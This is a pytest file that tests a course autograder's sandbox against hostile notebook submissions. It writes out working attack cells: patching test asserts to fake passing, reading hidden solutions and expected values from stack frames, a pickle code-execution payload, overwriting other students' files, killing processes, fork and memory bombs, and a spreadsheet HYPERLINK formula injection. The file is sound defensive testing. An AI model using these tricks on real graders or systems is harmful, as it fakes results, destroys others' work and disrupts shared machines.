"""Hostile submissions for exercise set 01, graded in one folder beside a correct one.

Each attack is the blank student notebook plus one cell that tries to score without answers
or to harm the grader, the project or another student. Each prints ``ATTACK <name>: ...``
(what it saw), which lands in its log. The folder is graded once with ``grading.grade``;
then every attack must score 0, the victim (the solution, in the same folder) must keep full
marks and its bytes, nothing outside the sandboxes' scratch may change, no process may be
left, and the host's loopback server must see no connection.
"""

import compileall
import hashlib
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from d2lmha import grading

BLANK = grading.ROOT / "exercises" / "01_single_head.ipynb"
MARKER = "d2lmha-attack-marker-7f3a"
SECRET = "d2lmha-instructor-secret-91c2"


def attacks(paths):
    """``{name: code of the extra cell}``; ``paths``: host paths an attacker would aim at."""
    p = {k: repr(str(v)) for k, v in paths.items()}
    return {
        # Otter's in-kernel tests are the usual hole: patch them, and torch's asserts too.
        "patch_tests": """
import sys, builtins, torch, torch.testing
sys.modules.pop("otter", None)
try:
    import otter.test_files.exception_test as et
    et.ExceptionTestFile.run = lambda self, env: None
    et.test_case.call_func = lambda self, env: None
    patched = "otter patched"
except Exception as e:
    patched = f"otter: {e!r}"
torch.testing.assert_close = lambda *a, **k: None
builtins.AssertionError = type("Never", (Exception,), {})
class Anything:
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
scaled_scores = masked_softmax = causal_attention = self_attention = lambda *a, **k: Anything()
print("ATTACK patch_tests:", patched)
""",
        # Rewrite the answers file after the run, twice: from a post-run hook and at exit,
        # with a pickle that would run code if anyone unpickled it.
        "forge_results": f"""
import atexit, os, pickle
class Boom:
    def __reduce__(self):
        return (os.system, ("touch " + {p["canary"]} + "/unpickled",))
payload = pickle.dumps({{"score": 16, "results": Boom()}})
def forge(*args):
    for target in ("/out/answers", "results.pkl", {p["build"]} + "/plan.safetensors"):
        try:
            open(target, "wb").write(payload)
        except OSError as e:
            print("ATTACK forge_results:", target, type(e).__name__)
get_ipython().events.register("post_run_cell", forge)
atexit.register(forge)
""",
        # Otter's log server listened on localhost; try the host's loopback directly.
        "loopback": f"""
import pickle, socket
try:
    s = socket.create_connection(("127.0.0.1", {paths["port"]}), timeout=3)
    s.sendall(pickle.dumps("forged"))
    print("ATTACK loopback: connected")
except OSError as e:
    print("ATTACK loopback:", type(e).__name__)
""",
        # Find the instructor's solution or hidden tests and run them.
        "read_solutions": f"""
import os, json
found = []
for root in (os.path.dirname({p["root"]}), {p["root"]}, "/work", "/root", "/home", "/tmp"):
    for folder, dirs, files in os.walk(root):
        found += [os.path.join(folder, f) for f in files
                  if f.endswith((".ipynb", ".zip", ".safetensors")) or "solution" in f]
        if len(found) > 50: break
for path in found:
    try:
        text = open(path).read()
    except Exception:
        continue
    if "test_q2_zero_length_row" in text or "return Q @ K.transpose(-2, -1) / math.sqrt(d)" in text:
        print("ATTACK read_solutions: SOLUTION FOUND", path)
        for cell in json.loads(text)["cells"]:
            if cell["cell_type"] == "code":
                try: exec("".join(cell["source"]))
                except Exception: pass
print("ATTACK read_solutions: saw", sorted(found)[:20])
""",
        # Harm the others: the victim's notebook, the grades, the project, the build.
        "write_others": f"""
import os, shutil
targets = [{p["victim"]}, {p["csv"]}, {p["root"]} + "/d2lmha/grading/replay.py",
           {p["root"]} + "/solutions/01_single_head.ipynb", {p["build"]} + "/plan.dill",
           {p["canary"]} + "/written"]
for target in targets:
    try:
        with open(target, "w") as f:
            f.write("{{}}")
        print("ATTACK write_others: WROTE", target)
    except OSError as e:
        print("ATTACK write_others:", target, type(e).__name__)
try:
    shutil.rmtree({p["folder"]})
except OSError as e:
    print("ATTACK write_others: rmtree", type(e).__name__)
""",
        # A process that detaches and waits to rewrite the grades after the run.
        "detached": f"""
import os, subprocess, sys
code = ("import time\\n# {MARKER}\\ntime.sleep(60)\\n"
        "open({p["csv"]}, 'w').write('forged')\\nopen({p["canary"]} + '/late', 'w')")
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)
print("ATTACK detached: started")
""",
        # Kill the grader: the parent, every process in sight, and a search by name.
        "kill_grader": """
import os, signal
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("ATTACK kill_grader: pids visible", pids, flush=True)
for pid in pids:
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        if b"pytest" in cmd or b"grading" in cmd:
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
""",
        # Answers files that the trusted side must refuse cheaply: a report that is not a
        # list, and one tensor referenced many times (40 x 16 MiB if each were copied).
        "forge_tree": """
import json, torch, safetensors.torch as st
original = st.save_file
def save(tensors, path, metadata=None):
    tree = json.loads(metadata["tree"])
    tree["errors"] = 5
    tensors = dict(tensors, big=torch.zeros(1 << 22))
    tree["values"] = {"scaled_scores": {"t": "list", "items": [{"t": "tensor", "k": "big"}] * 40}}
    return original(tensors, path, metadata={"tree": json.dumps(tree)})
st.save_file = save
""",
        # A report that would be a formula in a spreadsheet, or would blame the grader.
        "forge_report": """
import json, safetensors.torch as st
original = st.save_file
def save(tensors, path, metadata=None):
    tree = json.loads(metadata["tree"])
    tree["errors"] = ['=HYPERLINK("http://example.invalid","regrade")',
                      "grader error (not the submission's fault):\\nregrade by hand"]
    return original(tensors, path, metadata={"tree": json.dumps(tree)})
st.save_file = save
""",
        "user_namespace": """
import subprocess
print("ATTACK user_namespace:", subprocess.run(["unshare", "-Ur", "id"], capture_output=True,
                                                text=True))
""",
        "infinite_loop": "while True:\n    pass\n",
        "memory_bomb": """
try:
    hog = bytearray(6 << 30)
    print("ATTACK memory_bomb: got 6 GiB")
except MemoryError:
    print("ATTACK memory_bomb: MemoryError")
""",
        "output_flood": """
import sys
line = "x" * (1 << 20) + "\\n"
for _ in range(200):
    sys.stdout.write(line)
""",
        "fork_bomb": """
import subprocess
children = []
try:
    for _ in range(5000):
        children.append(subprocess.Popen(["sleep", "60"]))
except OSError as e:
    print("ATTACK fork_bomb: stopped after", len(children), type(e).__name__, flush=True)
""",
        "fill_scratch": """
try:
    with open("/tmp/fill", "wb") as f:
        for _ in range(1024):
            f.write(b"\\0" * (1 << 20))
    print("ATTACK fill_scratch: wrote 1 GiB")
except OSError as e:
    print("ATTACK fill_scratch:", type(e).__name__)
""",
        # Who am I, what can I see of the instructor's environment?
        "environment": """
import os
print("ATTACK environment: uid", os.getuid(), "env", sorted(os.environ.items()))
print("ATTACK environment: root dir", sorted(os.listdir("/")))
""",
        # Read the expected values from the caller's frames, or from the call plan.
        "stack_peek": """
import inspect, torch
def peek(*args, **kwargs):
    for frame in inspect.stack()[1:]:
        for name, value in frame.frame.f_locals.items():
            if "expect" in name:
                print("ATTACK stack_peek: found", name)
                return value
    return None
scaled_scores = masked_softmax = peek
causal_attention = self_attention = lambda *a, **k: (peek(), peek())
""",
    }


def snapshot(*folders):
    """``{path: sha256}`` of every file under ``folders``, but otter's ``.OTTER_LOG``: nbval
    writes it beside the solutions it runs in the other xdist worker, outside any sandbox."""
    return {
        str(f): hashlib.sha256(f.read_bytes()).hexdigest()
        for folder in folders
        for f in sorted(Path(folder).rglob("*"))
        if f.is_file() and f.name != ".OTTER_LOG"
    }


def leftover_processes():
    """Processes that carry the attack's marker or run as one of this grading's sandbox uids."""
    uids = {grading.sandbox.slot_uid(slot) for slot in range(grading.sandbox.MAX_SLOTS)}
    found = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            if MARKER.encode() in (proc / "cmdline").read_bytes() or proc.stat().st_uid in uids:
                found.append(proc.name)
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    out = tmp_path_factory.mktemp("grades") / "grades.csv"
    canary = tmp_path_factory.mktemp("canary")
    built = grading.build(grading.exercise_sets()["01"], grading.BUILD_DIR / "01_single_head")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    connections = []

    def listen():
        while not stop.is_set():
            try:
                connections.append(server.accept())
            except OSError:
                pass

    stop = threading.Event()
    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    paths = {
        "root": grading.ROOT,
        "victim": folder / "01_victim.ipynb",
        "csv": out,
        "build": built.directory,
        "canary": canary,
        "folder": folder,
        "port": server.getsockname()[1],
    }
    blank = nbformat.read(BLANK, as_version=4)
    names = {}
    for name, code in attacks(paths).items():
        nb = nbformat.read(BLANK, as_version=4)
        nb.cells.append(nbformat.v4.new_code_cell(code))
        names[name] = f"01_attack_{name}.ipynb"
        nbformat.write(nb, folder / names[name])
    nbformat.write(nbformat.read(built.solution_notebook, as_version=4), paths["victim"])
    (folder / "01_not_json.ipynb").write_text("{ this is not JSON")
    other = nbformat.read(BLANK, as_version=4)
    other.metadata["otter"]["assignment_name"] = "02_multi_head"
    nbformat.write(other, folder / "01_says_set_02.ipynb")
    other.metadata["otter"]["assignment_name"] = "99_no_such_set"
    nbformat.write(other, folder / "01_unknown_set.ipynb")
    del blank
    watched = (
        grading.ROOT / "d2lmha",
        grading.ROOT / "solutions",
        grading.ROOT / "exercises",
        built.directory,
        folder,
    )
    # Byte-compile the package first: other test workers importing d2lmha during the grading
    # would otherwise write its missing __pycache__ files inside the watched folder.
    compileall.compile_dir(grading.ROOT / "d2lmha", quiet=1)
    before = snapshot(*watched)
    os.environ["D2LMHA_SECRET"] = SECRET  # the instructor's environment: must not leak in
    start = time.monotonic()
    try:
        csv = grading.grade(folder, timeout=60, cell_timeout=10, jobs=2, out=out)
    finally:
        del os.environ["D2LMHA_SECRET"]
    seconds = time.monotonic() - start
    time.sleep(1.0)
    stop.set()
    listener.join()
    server.close()
    table = pd.read_csv(csv, dtype=str).fillna("").set_index("submission")
    logs = {
        name: (out.with_suffix(".logs") / f"{name}.log").read_bytes()
        for name in table.index
        if (out.with_suffix(".logs") / f"{name}.log").exists()
    }
    return {
        "table": table,
        "names": names,
        "before": before,
        "after": snapshot(*watched),
        "full": sum(built.possible.values()),
        "canary": canary,
        "connections": connections,
        "logs": logs,
        "csv": csv,
        "seconds": seconds,
        "leftover": leftover_processes(),
    }


def log(attacked, name):
    return attacked["logs"].get(attacked["names"][name], b"").decode("utf-8", "replace")


def test_one_row_per_submission(attacked):
    table = attacked["table"]
    assert len(table) == len(attacked["names"]) + 4 and table.index.is_unique


@pytest.mark.parametrize(
    "name",
    sorted(
        attacks({k: "" for k in ("root", "victim", "csv", "build", "canary", "folder", "port")})
    ),
)
def test_attack_scores_zero(attacked, name):
    row = attacked["table"].loc[attacked["names"][name]]
    assert (
        float(row["score"]) == 0
        and float(row["possible"]) == attacked["full"]
        and row["set"] == "01"
    ), row.to_dict()


def test_victim_keeps_full_marks_and_its_bytes(attacked):
    victim = attacked["table"].loc["01_victim.ipynb"]
    assert float(victim["score"]) == attacked["full"] and victim["error"] == "", victim.to_dict()
    assert attacked["after"] == attacked["before"], "a file outside the sandboxes changed"


def test_nothing_written_outside_the_sandbox(attacked):
    assert sorted(p.name for p in attacked["canary"].iterdir()) == []
    assert "WROTE" not in log(attacked, "write_others")
    assert pd.read_csv(attacked["csv"]).shape[0] == len(attacked["table"])


def test_no_process_outlives_the_run(attacked):
    assert attacked["leftover"] == []
    assert "ATTACK detached: started" in log(attacked, "detached")


def test_no_network_and_no_instructor_environment(attacked):
    assert attacked["connections"] == []
    assert "ATTACK loopback: ConnectionRefusedError" in log(attacked, "loopback")
    seen = log(attacked, "environment")
    assert "ATTACK environment: uid" in seen and "uid 0 " not in seen
    assert SECRET not in seen and "('HOME', '/tmp')" in seen


def test_hidden_tests_and_solutions_are_out_of_sight(attacked):
    text = log(attacked, "read_solutions")
    assert "SOLUTION FOUND" not in text and "ATTACK read_solutions: saw" in text
    assert "found expected" not in log(attacked, "stack_peek")


def test_limits_hold(attacked):
    table, names = attacked["table"], attacked["names"]
    assert "ATTACK memory_bomb: MemoryError" in log(attacked, "memory_bomb")
    assert "stopped after" in log(attacked, "fork_bomb")
    assert "ATTACK fill_scratch: OSError" in log(attacked, "fill_scratch")
    assert len(attacked["logs"][names["output_flood"]]) <= 1 << 20
    assert "ran longer than 10 s; skipped" in table.loc[names["infinite_loop"], "reported"]
    # The kill reaches only the sandbox's own processes: its run ends without answers.
    assert table.loc[names["kill_grader"], "error"] != ""


def test_bad_files_and_wrong_sets_get_a_clear_row(attacked):
    table = attacked["table"]
    assert "unreadable notebook" in table.loc["01_not_json.ipynb", "error"]
    says_02 = table.loc["01_says_set_02.ipynb"]
    assert says_02["set"] == "02" and "graded as set 02" in says_02["warning"]
    assert float(says_02["score"]) == 0
    assert "unknown exercise set '99_no_such_set'" in table.loc["01_unknown_set.ipynb", "error"]


def test_forged_answers_files_cost_only_their_own_row(attacked):
    table, names = attacked["table"], attacked["names"]
    forged = table.loc[names["forge_tree"]]
    assert "malformed answers: a tensor is referenced twice" in forged["error"]
    assert forged["reported"] == "(malformed report)"
    report = table.loc[names["forge_report"]]
    assert report["error"] == "" and report["reported"].startswith("'=HYPERLINK(")
    assert "\n" not in report["reported"]


def test_no_new_user_namespaces(attacked):
    text = log(attacked, "user_namespace")
    assert "returncode=1" in text and "uid=0" not in text
